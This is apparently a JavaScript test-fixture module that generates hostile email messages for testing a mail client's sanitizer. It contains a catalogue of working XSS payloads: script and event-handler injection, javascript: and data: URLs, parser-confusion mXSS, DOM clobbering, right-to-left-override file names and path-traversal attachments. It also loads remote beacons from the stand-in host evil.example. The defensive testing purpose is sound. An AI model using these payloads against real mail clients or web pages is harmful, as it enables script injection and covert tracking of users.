// Mails that want to run something, load something, or deceive. Whatever they reach for outside is `evil.example`; whatever they
// run leaves `window.owned` behind or opens a dialog.

import { compose, encodedWord } from "./mail.mjs";
import { REPORTS } from "./story/mails.mjs";

export const OUTSIDE = "evil.example";
const RUN = "window.owned=1;alert(1)";
const LOAD = `https://${OUTSIDE}/beacon`;

/** One attack each, so that none is hidden by the one before it. */
const MARKUP = [
  `<script>${RUN}</script><script src="${LOAD}.js"></script>`,
  `<img src=x onerror="${RUN}"><img src="${LOAD}.png" srcset="${LOAD}2.png 2x">`,
  `<svg onload="${RUN}"><script>${RUN}</script><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`,
  `<iframe src="${LOAD}.html"></iframe><iframe srcdoc="<script>parent.owned=1</script>"></iframe>`,
  `<form action="${LOAD}"><input name=password autofocus onfocus="${RUN}"><button formaction="javascript:${RUN}">Continue</button></form>`,
  `<style>@import url(${LOAD}.css); body { background: url(${LOAD}-style.png) } * { display: none }</style>`,
  `<div style="background:url(${LOAD}-inline.png);position:fixed;inset:0;z-index:9999">over everything</div>`,
  `<meta http-equiv="refresh" content="0;url=${LOAD}-refresh"><base href="${LOAD}/"><link rel=stylesheet href="${LOAD}-link.css">`,
  `<a href="javascript:${RUN}">press me</a> <a href="&#106;avascript:${RUN}">and me</a> <a href=" java&#9;script:${RUN}">me too</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">data</a> <a href="vbscript:x">vb</a> <a href="${LOAD}-visible">a link that is only a link</a>`,
  `<object data="${LOAD}.swf"></object><embed src="${LOAD}.embed"><video src="${LOAD}.mp4" autoplay poster="${LOAD}-poster.png"></video><audio src="${LOAD}.ogg" autoplay></audio>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript><template><img src=x onerror=${RUN}></template>`,
  `<textarea></textarea><img src=x onerror="${RUN}"></textarea></div></article></main><script>${RUN}</script>`,
  `<details open ontoggle="${RUN}"><summary>x</summary></details><body onload="${RUN}" background="${LOAD}-body.png"><marquee onstart="${RUN}">`,
  `<div id="help"></div><form id="search" name="body"><input name="dataset"></form><a id="main" href="#">clobbered</a>`,
];

const SUBJECT = `<script>${RUN}</script><img src=x onerror="${RUN}">"'\u202Egnp.exe`;
const NAME = `<b onmouseover="${RUN}">Eve</b> "quoted" </bdi><script>${RUN}</script>`;
const FILES = [
  ["image/svg+xml", `"><img src=x onerror=${RUN}>.svg`, `<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"><script>${RUN}</script><image href="${LOAD}-svg.png"/></svg>`],
  ["text/html", "../../<b>index</b>.html", `<script>window.opener.owned=1;${RUN}</script><img src="${LOAD}-file.png">`],
  ["application/xhtml+xml", "a\u202Egpj.xhtml", `<html xmlns="http://www.w3.org/1999/xhtml"><script>${RUN}</script></html>`],
  ["text/xml", "style.xml", `<?xml-stylesheet href="${LOAD}.xsl"?><x/>`],
  ["text/javascript", "code.js", RUN],
  ["application/pdf", "not really.pdf", `<script>${RUN}</script>`],
];

/** Deliverable messages: one for each attack in HTML alone, one with everything at once, one in plain text. */
export function hostileMails() {
  const mail = (number, parts, subject = `Hostile ${number}`) =>
    compose({ from: `${encodedWord(`${NAME} ü`)} <eve@${OUTSIDE}>`, to: REPORTS, subject, id: `hostile-${number}@${OUTSIDE}`, parts });
  const alone = MARKUP.map((markup, number) => mail(number, [{ type: "text/html", text: `<p>Dear team ${number}</p>${markup}<p>The end</p>` }]));
  const files = FILES.map(([type, file, text]) => ({ type, file, text }));
  const everything = mail("all", [{ type: "text/html", text: `<p>Dear team</p>${MARKUP.join("\n")}` }, ...files], SUBJECT);
  const plain = mail("plain", [{ type: "text/plain", text: `Dear team\n${MARKUP.join("\n")}\njavascript:${RUN} http://${OUTSIDE}/"onmouseover="${RUN} 192.0.2.66` }, ...files], SUBJECT);
  return [...alone, everything, plain];
}
